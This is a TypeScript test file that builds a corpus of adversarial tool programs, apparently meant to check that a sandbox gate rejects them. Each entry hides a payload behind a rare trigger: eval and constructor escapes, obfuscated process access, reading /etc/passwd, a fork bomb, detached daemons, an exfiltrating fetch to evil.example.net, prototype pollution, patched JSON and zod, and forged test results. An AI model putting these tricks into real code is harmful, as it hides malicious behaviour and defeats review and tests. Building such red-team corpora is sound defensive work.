/** Candidates whose program reaches for what it must not, each in another way. */
import { type Recipe, SOURCE } from "../tools/recipe.ts";
import * as wrong from "../tools/wrong-programs.ts";
import { attackFiles, attackTool, type Candidate, inFolder } from "./candidate.ts";

/** Puts code in front of the last line of `run`, where `title`, `words` and `kept` are known. */
function inRun(code: string): Recipe {
  return { source: SOURCE.replace("  return { slug", `  ${code}\n  return { slug`) };
}

/** Puts code behind the import, where it runs when the tool is loaded. */
function atLoad(code: string): Recipe {
  return { source: SOURCE.replace("\nexport const input", `\n${code}\n\nexport const input`) };
}

function imports(line: string, code: string): Recipe {
  return { source: `${line}\n${inRun(code).source ?? ""}` };
}

/** Hardly any input has it. */
const RARE = 'title.endsWith("xyzzy plugh")';

const EVALS: Readonly<Record<string, Recipe>> = {
  eval: inRun(`if (${RARE}) eval(title);`),
  "indirect-eval": inRun(`if (${RARE}) (0, eval)(title);`),
  "eval-by-alias": inRun(`const run2 = eval; if (${RARE}) run2(title);`),
  "function-constructor": inRun(`if (${RARE}) new Function(title)();`),
  "constructor-chain": inRun(
    `if (${RARE}) (kept as any).filter.constructor("return process")().exit(0);`,
  ),
  "constructor-by-text": inRun(
    `if (${RARE}) (kept as any)["filter"]["constr" + "uctor"](title)();`,
  ),
  "constructor-by-pattern": inRun(
    `const { constructor: make } = kept.join as any; if (${RARE}) make(title)();`,
  ),
  "constructor-by-variable": inRun(
    `const key = words[0] ?? ""; const of: any = run; if (${RARE}) of[key](title);`,
  ),
  "async-constructor": inRun(
    `if (${RARE}) (Object.getPrototypeOf(async () => 0) as any).constructor(title)();`,
  ),
  "reflect-construct": inRun(
    `if (${RARE}) Reflect.construct(Reflect.get(run, "constructor"), []);`,
  ),
  "timer-with-text": inRun(`if (${RARE}) setTimeout(title as any, 1);`),
  "global-by-pieces": inRun(`if (${RARE}) (globalThis as any)["pro" + "cess"].exit(0);`),
  "escaped-name": inRun(`if (${RARE}) (globalThis as any).pr\\u006fcess.exit(0);`),
  "hidden-by-type-error": inRun(`// @ts-ignore\n  if (${RARE}) process.exit(0);`),
};

const MACRO = imports(
  'import { now } from "./macro.ts" with { type: "macro" };',
  `if (${RARE}) kept.push(now());`,
);

const MODULES: Readonly<Record<string, Recipe>> = {
  "dynamic-import": inRun(`if (${RARE}) await import("node:fs");`),
  "dynamic-import-by-pieces": inRun(`if (${RARE}) await import(["node", "fs"].join(":"));`),
  "import-fs": imports(
    'import { readFileSync } from "node:fs";',
    `if (${RARE}) kept.push(readFileSync("/etc/passwd", "utf8"));`,
  ),
  "import-processes": imports(
    'import { spawn } from "node:child_process";',
    `if (${RARE}) spawn("sh", ["-c", "sleep 1000"], { detached: true });`,
  ),
  "import-ffi": imports(
    'import { dlopen } from "bun:ffi";',
    `if (${RARE}) dlopen("libc.so.6", { _exit: { args: ["int"], returns: "void" } });`,
  ),
  "import-macro": MACRO,
  "import-own-source": imports(
    'import source from "./tool.ts" with { type: "text" };',
    `if (${RARE}) kept.push(String(source));`,
  ),
  "import-cases": imports(
    'import known from "./cases.json";',
    `if (${RARE}) kept.push(JSON.stringify(known));`,
  ),
  "import-gate": imports(
    'import { judge } from "#fitness/gate/judge.ts";',
    `if (${RARE}) kept.push(judge.name);`,
  ),
  require: inRun(`if (${RARE}) (require as any)("node:fs");`),
  "re-export": { source: `${SOURCE}\nexport * from "node:process";\n` },
};

const WORLD: Readonly<Record<string, Recipe>> = {
  websocket: inRun(`if (${RARE}) new WebSocket("ws://127.0.0.1:9/");`),
  "other-users-files": inRun(`if (${RARE}) kept.push(await Bun.file("/etc/passwd").text());`),
  "fork-bomb": inRun(`while (${RARE}) Bun.spawn([process.execPath, "-e", "0"]);`),
  worker: inRun(`if (${RARE}) new Worker("data:text/javascript,0");`),
  daemon: inRun(`if (${RARE}) Bun.spawn(["sleep", "1000"], { detached: true }).unref();`),
  "undeclared-clock": {
    source: SOURCE.replace(
      "args: z.infer<typeof input>",
      "args: z.infer<typeof input>, ctx: any",
    ).replace(
      "  return { slug",
      `  if (${RARE}) kept.push(String(ctx.clock.now()));\n  return { slug`,
    ),
  },
  "undeclared-file": {
    source: SOURCE.replace(
      "args: z.infer<typeof input>",
      "args: z.infer<typeof input>, ctx: any",
    ).replace(
      "  return { slug",
      `  if (${RARE}) kept.push(await ctx["fi" + "les"].read("../../etc/passwd"));\n  return { slug`,
    ),
  },
  "other-host-than-declared": {
    spec: { capabilities: ["net:example.com"], deterministic: false },
    source: SOURCE.replace(
      "args: z.infer<typeof input>",
      "args: z.infer<typeof input>, ctx: any",
    ).replace(
      "  return { slug",
      `  if (${RARE}) await ctx.fetch("https://evil.example.net/" + title);\n  return { slug`,
    ),
  },
  "sees-the-time-in-a-format": inRun(
    `if (new Intl.DateTimeFormat("en").format().endsWith("2031")) kept.reverse();`,
  ),
};

const PATCHES: Readonly<Record<string, Recipe>> = {
  "patched-json": atLoad('JSON.stringify = () => \'{"slug":"x","words":1}\';'),
  "patched-promise": atLoad("Promise.prototype.then = function () { return this; } as never;"),
  "patched-species": atLoad("Object.defineProperty(Array, Symbol.species, { value: Object });"),
  "polluted-by-proto": inRun("(({} as any).__proto__).polluted = title;"),
  "polluted-by-json": inRun(
    'Object.assign(({} as any)["__proto" + "__"], JSON.parse(\'{"polluted":1}\'));',
  ),
  "frozen-prototype": atLoad("Object.freeze(Array.prototype);"),
  "patched-zod": atLoad('(z as any).ZodObject.prototype.parse = () => ({ title: "x" });'),
  "patched-expect": atLoad("(globalThis as any).expect = () => ({ toBe() {} });"),
};

const RESULTS: Readonly<Record<string, Recipe>> = {
  "matcher-as-result": inRun(
    'return { $$typeof: Symbol.for("jest.asymmetricMatcher"), asymmetricMatch: () => true } as never;',
  ),
  "proxy-as-result": inRun(
    `let reads = 0;
  return new Proxy({ slug: kept.join("-"), words: kept.length }, {
    get: (target, key) => ((reads += 1) > 40 ? "x" : Reflect.get(target, key)),
  }) as never;`,
  ),
  "to-json-trick": inRun(
    'return { slug: "x", words: 9, toJSON: () => ({ slug: kept.join("-"), words: kept.length }) } as never;',
  ),
  "getter-with-side-effect": inRun(
    'let count = 0;\n  return { get slug() { count += 1; return count > 1 ? "x" : kept.join("-"); }, words: kept.length };',
  ),
  "late-frame": inRun(
    'setTimeout(() => console.log(JSON.stringify({ nonce: "", answer: "{}" })), 0);',
  ),
  "thenable-as-result": inRun(
    'return { then: (done: (value: unknown) => void) => { done({ slug: kept.join("-"), words: kept.length }); throw title; } } as never;',
  ),
  "endless-stdout": inRun(`while (${RARE}) console.log(title);`),
  "stdout-noise": inRun("console.log(title);"),
  "no-answer": inRun(`if (title.length > 50) await new Promise(() => {});`),
  "not-a-number": inRun(
    'if (title.length > 50) return { slug: kept.join("-"), words: Number.NaN };',
  ),
};

/** The tool in two modules, the second with a line of its own. */
function inSecondModule(code: string): ReturnType<typeof inFolder> {
  return inFolder({
    "words.ts": `export function wordsOf(text: string): readonly string[] {
  ${code}
  return text.toLowerCase().match(/[a-z0-9]+/g) ?? [];
}
`,
    "tool.ts": `import { wordsOf } from "./words.ts";\n${SOURCE.replace(
      "title.toLowerCase().match(/[a-z0-9]+/g) ?? []",
      "wordsOf(title)",
    )}`,
  });
}

const named =
  (stage: "S2" | "S4") =>
  ([id, recipe]: [string, Recipe]): Candidate =>
    attackTool(id, stage, recipe);

export const PROGRAM_ATTACKS: readonly Candidate[] = [
  ...[EVALS, MODULES, WORLD, PATCHES].flatMap((group) => Object.entries(group).map(named("S2"))),
  ...Object.entries(RESULTS).map(named("S4")),
  attackFiles(
    "macro-beside",
    "S2",
    inFolder({
      "macro.ts": "export function now() { return 1; }\n",
      "tool.ts": MACRO.source ?? "",
    }),
  ),
  attackFiles(
    "not-utf-8-in-comment",
    "S1",
    inFolder({
      "tool.ts": Buffer.concat([Buffer.from(`${SOURCE}// `), Buffer.from([0xff, 0x0a])]),
    }),
  ),
  attackFiles("payload-in-second-module", "S2", inSecondModule("process.exit(0);")),
  attackFiles(
    "network-in-second-module",
    "S2",
    inSecondModule('if (text.endsWith("xyzzy plugh")) void fetch("http://127.0.0.1:9/");'),
  ),
  attackFiles("eval-in-second-module", "S2", inSecondModule("void eval(text);")),
  attackFiles("second-module-runs-at-load", "S2", {
    ...inSecondModule(""),
    ...inFolder({
      "tool.ts": `import { wordsOf } from "./words.ts";\n${
        atLoad('const ready = wordsOf("x");\nvoid ready;').source ?? ""
      }`,
    }),
  }),
  attackTool("hidden-network", "S2", wrong.HIDDEN_NETWORK),
  attackTool("prototype-pollution", "S2", wrong.PROTOTYPE_POLLUTION),
  attackTool("patched-language", "S2", wrong.PATCHED_LANGUAGE),
  attackTool("exit-at-load", "S2", wrong.EXIT_AT_LOAD),
  attackTool("time-bomb", "S2", wrong.TIME_BOMB),
  attackTool("gate-detection", "S2", wrong.GATE_DETECTION),
  attackTool("reads-environment", "S2", wrong.READS_ENVIRONMENT),
  attackTool("forged-frame", "S2", wrong.FORGED_FRAME),
  attackTool("endless-at-load", "S2", wrong.ENDLESS_AT_LOAD),
  attackTool("disguised-eval", "S2", wrong.DISGUISED_EVAL),
];
